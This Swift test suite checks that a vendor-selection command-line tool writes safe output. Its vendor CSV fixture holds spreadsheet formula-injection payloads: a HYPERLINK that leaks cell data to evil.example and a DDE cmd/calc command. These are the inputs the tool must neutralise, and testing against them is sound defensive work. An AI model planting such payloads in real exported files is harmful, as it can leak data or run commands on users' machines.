import Foundation
import Testing

/// Outputs that are safe: CSV that a spreadsheet never runs as a formula, files that appear whole or
/// not at all, and outputs that never replace an input or a device.
@Suite struct SafeOutputTests {
    static func directory() throws -> URL {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("pm-safe-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
        return url
    }

    /// Four vendors whose names and notes are spreadsheet formulas; the demand (12 FTE, 3 each) needs all four.
    static let hostileVendors = """
    id,name,country,timezone,hourly_rate,quality,cultural_fit,capacity_fte,certifications,skills,notes
    V1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",DE,Europe/Berlin,50,85,80,3,ISO27001,backend,=1+1
    V2,+cmd|' /C calc'!A0,PL,Europe/Warsaw,45,80,75,3,ISO27001,backend,-2+3
    V3,@SUM(A1:A9),DE,Europe/Berlin,55,90,85,3,ISO27001,backend,-0.5
    V4,-Minus Corp,PL,Europe/Warsaw,40,70,70,3,,backend,"\rcarriage"

    """

    static let scenario = """
    [client]
    timezone = "Europe/Berlin"
    [demand]
    total = 12
    [horizon]
    months = 12
    [budget]
    total = 10_000_000
    [rules]
    min_engagement_fte = 0

    """

    /// Every CSV field of `text` (RFC 4180, quotes undone).
    static func fields(_ text: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, previousQuote = false
        for character in text {
            if quoted {
                if character == "\"" { quoted = false; previousQuote = true } else { field.append(character) }
                continue
            }
            switch character {
            case "\"":
                if previousQuote { field.append("\"") }
                quoted = true
            case ",", "\n": fields.append(field); field = ""
            default: field.append(character)
            }
            previousQuote = false
        }
        return fields
    }

    static func assertNoFormula(_ csv: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for field in fields(csv) {
            guard let first = field.first, "=+-@\t\r".contains(first) else { continue }
            #expect(Double(field) != nil, "a cell a spreadsheet would run: \(field.debugDescription)", sourceLocation: sourceLocation)
        }
    }

    @Test(arguments: ["shortlist", "optimize"])
    func formulaCellsAreNeutralisedInCSVOutput(command: String) throws {
        let dir = try Self.directory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let vendors = dir.appendingPathComponent("vendors.csv").path
        let scenario = dir.appendingPathComponent("scenario.toml").path
        try Self.hostileVendors.write(toFile: vendors, atomically: false, encoding: .utf8)
        try Self.scenario.write(toFile: scenario, atomically: false, encoding: .utf8)
        let result = CLIRunner.run([command, vendors, "--scenario", scenario, "--format", "csv"])
        #expect(result.status == 0, "\(result.stderr)")
        Self.assertNoFormula(result.stdout)
        let cells = Set(Self.fields(result.stdout))
        #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"))
        #expect(cells.contains("'+cmd|' /C calc'!A0"))
        #expect(cells.contains("'@SUM(A1:A9)"))
        #expect(cells.contains("'-Minus Corp"))
        // Extra columns too; numbers stay numbers.
        #expect(cells.contains("'=1+1"))
        #expect(cells.contains("'-2+3"))
        #expect(cells.contains("'\rcarriage"))
        #expect(cells.contains("-0.5"))
        #expect(!cells.contains("'-0.5"))
    }

    @Test func aRunKilledMidWriteLeavesThePreviousFileWhole() throws {
        let dir = try Self.directory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let out = dir.appendingPathComponent("pool.csv").path
        let previous = "id,name\nold,complete file\n"
        try previous.write(toFile: out, atomically: false, encoding: .utf8)
        let binary = try CLIRunner.binary().get()
        let process = Process()
        process.executableURL = binary
        process.arguments = ["generate", "--vendors", "2000000", "--seed", "7", "--out", out]
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        usleep(300_000)
        kill(process.processIdentifier, SIGKILL)
        process.waitUntilExit()
        let text = try Data(contentsOf: URL(fileURLWithPath: out))
        if process.terminationReason == .uncaughtSignal {
            // Killed before the rename: the old file, untouched. A `.pool.csv.tmp-*` may remain.
            #expect(String(decoding: text, as: UTF8.self) == previous)
        } else {
            // Finished before the signal (a very fast machine): then the file is the whole new pool.
            #expect(process.terminationStatus == 0)
            #expect(text.reduce(0) { $0 + ($1 == 0x0A ? 1 : 0) } == 2_000_001)
        }
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0 != "pool.csv" }
        #expect(leftovers.allSatisfy { $0.hasPrefix(".pool.csv.tmp-") }, "\(leftovers)")
    }

    @Test func writingToDevNullKeepsItADevice() throws {
        for arguments in [["init", "--out", "/dev/null", "--force"], ["generate", "--vendors", "10", "--seed", "1", "--out", "/dev/null"]] {
            let result = CLIRunner.run(arguments)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            var status = stat()
            #expect(lstat("/dev/null", &status) == 0)
            #expect(status.st_mode & S_IFMT == S_IFCHR, "\(arguments) replaced /dev/null")
        }
    }

    @Test func exportingTheModelOverAnInputIsRefused() throws {
        let dir = try Self.directory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let vendors = dir.appendingPathComponent("vendors.csv").path
        // A scenario whose name ends in .lp (read as TOML), and a link to it.
        let scenario = dir.appendingPathComponent("scenario.lp").path
        let link = dir.appendingPathComponent("link.lp").path
        try Self.hostileVendors.write(toFile: vendors, atomically: false, encoding: .utf8)
        try Self.scenario.write(toFile: scenario, atomically: false, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: scenario)
        for target in [scenario, link] {
            let result = CLIRunner.run(["optimize", vendors, "--scenario", scenario, "--export-model", target])
            #expect(result.status == 73)
            #expect(result.stderr == "error: --export-model '\(target)' is the input file '\(scenario)'; refusing to overwrite an input\n")
            #expect(try String(contentsOfFile: scenario, encoding: .utf8) == Self.scenario)
        }
        let fine = CLIRunner.run(["optimize", vendors, "--scenario", scenario, "--export-model", dir.appendingPathComponent("m.lp").path])
        #expect(fine.status == 0, "\(fine.stderr)")
    }
}
